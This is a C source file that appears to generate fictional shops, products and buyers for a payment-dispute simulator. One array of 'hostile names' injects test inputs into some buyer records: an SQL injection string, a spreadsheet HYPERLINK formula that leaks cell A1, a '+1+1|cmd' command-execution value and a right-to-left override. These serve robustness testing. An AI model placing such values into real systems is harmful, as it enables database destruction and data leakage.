/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include "simulator-catalogue.h"

const char *const cfoil_sim_filing_reasons[CFOIL_SIM_N_FILING_REASONS] = {
  "ProductNotReceived", "ProductUnacceptable", "ProductNoLongerNeeded", "CreditNotProcessed",
  "Overcharged", "DuplicateCharge", "SubscriptionCancelled", "Unrecognized", "Fraudulent", "Other"
};

static const CfoilSimShop shops[3][CFOIL_SIM_N_SHOPS] = {
  { { "Harbor Street Coffee", "HSC" }, { "Paper & Thread", "PT" }, { "Larkspur Outdoor Supply", "LOS" }, { "The \"Second\" Shelf Books", "SSB" } },
  { { "Kaffeehaus am Markt", "KAM" }, { "Fäden & Papier", "FP" }, { "Larkspur Outdoor Europe", "LOE" }, { "Le Deuxième Rayon, livres", "LDR" } },
  { { "港町珈琲", "MK" }, { "紙と糸", "KI" }, { "ラークスパー アウトドア", "LO" }, { "二番棚書店", "NS" } },
};

static const struct {
  const char *name;
  guint price;
} products[] = {
  { "House blend, 1 kg", 1890 }, { "Linen notebook", 1450 }, { "Trail pack 28 L", 8990 },
  { "Enamel mug", 1690 }, { "Merino base layer", 6450 }, { "Second-hand atlas", 2780 },
  { "Pour-over kettle", 5490 }, { "Bookbinding kit", 3995 }, { "Two-person tent", 24900 },
  { "Filter papers (200)", 695 }, { "Waxed thread set", 1299 }, { "Head torch", 3450 },
  { "Collected essays", 2199 }, { "Espresso machine", 48900 }, { "Field jacket", 13900 },
  { "Gift card", 5000 },
};

/* A few names that break careless escaping, spreadsheets and layouts. */
static const char *const hostile_names[] = {
  "Tom & Jerry <b>VIP</b>", "=HYPERLINK(\"http://example.com/?\"&A1,\"refund\")",
  "\xD9\x85\xD8\xAD\xD9\x85\xD8\xAF \xD8\xB9\xD9\x84\xD9\x8A (VIP)", "\xE2\x80\xAE" "drawkcaB" "\xE2\x80\xAC",
  "Robert'); DROP TABLE buyers;--", "+1+1|cmd", "Zo\xC3\xAB \xF0\x9F\xA6\x8A O\xE2\x80\x99Neill", "@SUM(A1:A9)"
};

static const char *const first_names[3][12] = {
  { "Olivia", "Liam", "Emma", "Noah", "Ava", "Mateo", "Sofia", "Jamal", "Grace", "Ethan", "Mei", "Priya" },
  { "Anna", "Lukas", "Zoé", "Jürgen", "Siân", "Łukasz", "Inés", "Bjørn", "Chiara", "Seán", "Noémie", "Ömer" },
  { "陽菜", "蓮", "結衣", "湊", "葵", "大翔", "さくら", "悠真", "美咲", "健太", "由美子", "浩" },
};

static const char *const last_names[3][12] = {
  { "Nguyen", "Smith", "Garcia", "Johnson", "O'Brien", "Patel", "Kim", "Williams", "de la Cruz", "Cohen", "Brown", "McDonald" },
  { "Müller", "Dubois", "Kowalski", "Jones", "Rossi", "Núñez", "Sørensen", "Weiß", "van den Berg", "Murphy", "Lefèvre", "Yılmaz" },
  { "佐藤", "鈴木", "高橋", "田中", "伊藤", "渡辺", "山本", "中村", "小林", "髙橋", "斎藤", "齋藤" },
};

static const struct {
  const char *city;
  const char *state;
  const char *postal_code;
  const char *country;
} places[3][6] = {
  { { "Seattle", "WA", "98109", "US" }, { "Austin", "TX", "78701", "US" }, { "Portland", "ME", "04101", "US" },
    { "San José", "CA", "95112", "US" }, { "Brooklyn", "NY", "11201", "US" }, { "Honolulu", "HI", "96815", "US" } },
  { { "München", "Bayern", "80331", "DE" }, { "Lyon", "", "69002", "FR" }, { "London", "", "SE1 9GF", "GB" },
    { "Wrocław", "", "50-101", "PL" }, { "Köln", "NRW", "50667", "DE" }, { "Edinburgh", "", "EH1 1YZ", "GB" } },
  { { "千代田区", "東京都", "100-0001", "JP" }, { "大阪市", "大阪府", "530-0001", "JP" }, { "札幌市", "北海道", "060-0001", "JP" },
    { "福岡市", "福岡県", "812-0011", "JP" }, { "京都市", "京都府", "600-8216", "JP" }, { "那覇市", "沖縄県", "900-0015", "JP" } },
};

static const char *const streets[3][4] = {
  { "Pine Street", "Market St", "Elm Avenue", "5th Ave NE" },
  { "Hauptstraße", "rue de l’Église", "High Street", "Ulica Długa" },
  { "丸の内", "梅田", "大通西", "博多駅前" },
};

const CfoilSimShop *
cfoil_sim_shop (CfoilSimRegion region,
                guint          number)
{
  return &shops[region][number % CFOIL_SIM_N_SHOPS];
}

/* One to three products and, now and then, postage. */
gint64
cfoil_sim_basket_amount (CfoilSimRandom  *random,
                         CfoilSimCurrency currency)
{
  guint items = 1 + cfoil_sim_random_below (random, 10) / 6;
  gint64 cents = 0;

  for (guint i = 0; i < items; i++)
    cents += products[cfoil_sim_random_below (random, G_N_ELEMENTS (products))].price *
             (gint64) (1 + cfoil_sim_random_below (random, 10) / 8);
  if (cents < 5000)
    cents += 495;
  cents += cfoil_sim_random_below (random, 40);
  return currency == CFOIL_SIM_JPY ? cents * 3 / 20 * 10 : cents;
}

const char *
cfoil_sim_product_name (CfoilSimRandom *random)
{
  return products[cfoil_sim_random_below (random, G_N_ELEMENTS (products))].name;
}

static char *
buyer_name (CfoilSimRandom *random,
            CfoilSimRegion  region,
            guint           number)
{
  const char *first = first_names[region][cfoil_sim_random_below (random, 12)];
  const char *last = last_names[region][cfoil_sim_random_below (random, 12)];

  if (number % 61 == 17)
    return g_strdup (hostile_names[number / 61 % G_N_ELEMENTS (hostile_names)]);
  return region == CFOIL_SIM_REGION_JP ? g_strdup_printf ("%s %s", last, first)
                                       : g_strdup_printf ("%s %s", first, last);
}

/* Buyers are a function of their number, so nobody has to remember them. */
CfoilSimBuyer *
cfoil_sim_buyer_new (const CfoilSimOptions *options,
                     guint                  number)
{
  static const char *const cards[] = { "Visa ****1111", "Mastercard ****4444", "American Express ****0005", "JCB ****0000", "Visa ****9424" };
  CfoilSimBuyer *buyer = g_new0 (CfoilSimBuyer, 1);
  CfoilSimRegion region = options->region;
  CfoilSimRandom random;
  guint place;

  cfoil_sim_random_init (&random, options->seed * 1000003 + number, "buyer");
  place = cfoil_sim_random_below (&random, 6);
  buyer->name = buyer_name (&random, region, number);
  buyer->id = g_strdup_printf ("amzn1.account.%016" G_GINT64_MODIFIER "X%08X",
                               cfoil_sim_random_next (&random), number);
  buyer->email = g_strdup_printf ("buyer%05u@example.%s", number, region == CFOIL_SIM_REGION_NA ? "com" : "org");
  buyer->phone = g_strdup_printf ("555-01%02u", cfoil_sim_random_below (&random, 100));
  buyer->street = region == CFOIL_SIM_REGION_NA
                    ? g_strdup_printf ("%u %s", 1 + cfoil_sim_random_below (&random, 2400), streets[region][number % 4])
                    : g_strdup_printf ("%s %u", streets[region][number % 4], 1 + cfoil_sim_random_below (&random, 180));
  buyer->city = g_strdup (places[region][place].city);
  buyer->state = places[region][place].state[0] != '\0' ? g_strdup (places[region][place].state) : NULL;
  buyer->postal_code = g_strdup (places[region][place].postal_code);
  buyer->country = places[region][place].country;
  buyer->payment = g_strdup_printf ("%s (Amazon Pay)", cards[cfoil_sim_random_below (&random, G_N_ELEMENTS (cards))]);
  return buyer;
}

void
cfoil_sim_buyer_free (CfoilSimBuyer *buyer)
{
  g_free (buyer->id);
  g_free (buyer->name);
  g_free (buyer->email);
  g_free (buyer->phone);
  g_free (buyer->street);
  g_free (buyer->city);
  g_free (buyer->state);
  g_free (buyer->postal_code);
  g_free (buyer->payment);
  g_free (buyer);
}
